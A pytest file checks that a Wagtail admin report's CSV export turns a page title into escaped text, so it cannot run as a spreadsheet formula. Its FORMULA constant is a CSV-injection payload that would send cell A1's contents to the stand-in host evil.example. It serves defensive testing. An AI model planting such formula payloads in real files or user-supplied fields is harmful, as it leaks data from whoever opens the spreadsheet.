"""Wagtail's own CSV downloads cannot attack a spreadsheet either: a title
a member wrote reaches the lead's report as text, never as a formula."""

import pytest
from django.urls import reverse

from stories.models import StoryPage
from tests.people import sign_in

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'


def test_a_page_title_cannot_become_a_formula_in_a_wagtail_report(client):
    story = StoryPage.objects.live().filter(locale__language_code="en-gb").first()
    story.title = FORMULA
    story.save(update_fields=["title"])
    sign_in(client, "lead@example.org")
    response = client.get(
        reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"}
    )
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK(" in text
    assert '\n"=HYPERLINK' not in text and "\n=HYPERLINK" not in text
